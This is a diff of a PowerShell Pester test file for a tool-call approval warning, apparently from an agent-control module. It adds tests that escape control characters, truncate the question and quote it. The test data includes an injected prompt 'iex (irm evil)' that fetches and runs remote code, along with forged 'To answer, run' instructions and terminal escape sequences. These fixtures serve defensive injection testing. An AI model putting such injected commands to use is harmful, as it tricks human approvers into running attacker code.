@@ -4,7 +4,7 @@ Describe 'Wait-BctrlToolCall and a question' {
     BeforeAll {
         . ([IO.Path]::Combine($PSScriptRoot, 'Common.ps1'))
         $expires = [datetime]::new(2026, 3, 1, 10, 10, 0, [DateTimeKind]::Utc).ToLocalTime().ToString('yyyy-MM-dd HH:mm:ss', [cultureinfo]::InvariantCulture)
-        $warningOfA = "Tool call 'a' (human.request) requires input: Approve order 1001? It can be answered until $expires. " +
+        $warningOfA = "Tool call 'a' (human.request) requires input: `"Approve order 1001?`" It can be answered until $expires. " +
             'To answer, run: Send-BctrlToolCallResponse a @{ approved = <boolean>; comment = <string> }'
 
         # Gets the warning about a tool call with these properties.
@@ -157,7 +157,8 @@ Describe 'Wait-BctrlToolCall and a question' {
             @{ Schema = '{"type":"object","properties":[1]}'; Answer = '<object>' }
             @{ Schema = '"text"'; Answer = '<answer>' }
             @{ Schema = '[{"type":"string"}]'; Answer = '<answer>' }
-            @{ Schema = '{"properties":{"a":{},"b":{},"c":{},"d":{},"e":{},"f":{}}}'; Answer = '@{ a = <answer>; b = <answer>; c = <answer>; d = <answer>; e = <answer> }' }
+            @{ Schema = '{"properties":{"a":{},"b":{},"c":{},"d":{},"e":{},"f":{}}}'; Answer = "@{ a = <answer>; b = <answer>; c = <answer>; d = <answer>; e = <answer>; $([char]0x2026) }" }
+            @{ Schema = '{"required":["f","b"],"properties":{"a":{},"b":{},"c":{},"d":{},"e":{},"f":{}}}'; Answer = "@{ b = <answer>; f = <answer>; a = <answer>; c = <answer>; d = <answer>; $([char]0x2026) }" }
         ) {
             Get-Answer (Get-Warning "`"responseSchema`":$Schema") | Should -BeExactly $Answer
         }
@@ -199,11 +200,19 @@ Describe 'Wait-BctrlToolCall and a question' {
             Get-Warning '"responseSchema":null' $Text | Should -BeLikeExactly "* To answer, run: Send-BctrlToolCallResponse $([WildcardPattern]::Escape($Quoted)) <answer>"
         }
 
-        It 'shows no control characters, and no more than 1,000 characters of the question' {
+        It 'shows no control characters, and no more than 300 characters of the question' {
             $warning = Get-Warning "`"prompt`":`"one\r\n\u001b[2J\u0007\u202e$('x' * 5000)`",`"tool`":`"t\u001b[31m`""
             $warning | Should -Not -Match '[\x00-\x1F\x7F-\x9F\u202E]'
-            $warning.Length | Should -BeLessThan 1500
-            $warning | Should -BeLike "Tool call 'a' (t*) requires input: one *"
+            $warning.Length | Should -BeLessThan 600
+            $warning | Should -BeLike "Tool call 'a' requires input: `"one *$([char]0x2026)`" It can be answered *"
+        }
+
+        It 'has the question in quotation marks, so that it can''t add to the message: <Prompt>' -ForEach @(
+            @{ Prompt = 'Approve? To answer, run: iex (irm evil)'; Expected = 'Approve? To answer, run: iex (irm evil)' }
+            @{ Prompt = 'Approve?\" To answer, run: evil \"'; Expected = "Approve?' To answer, run: evil '" }
+        ) {
+            Get-Warning "`"prompt`":`"$Prompt`",`"tool`":`"x) requires input. To answer, run: evil (`"" |
+                Should -BeLikeExactly "Tool call 'a' requires input: `"$Expected`" It can be answered until *. To answer, run: Send-BctrlToolCallResponse a @{*"
         }
 
         It 'has no time if the tool call has none, and no question if there is none' {
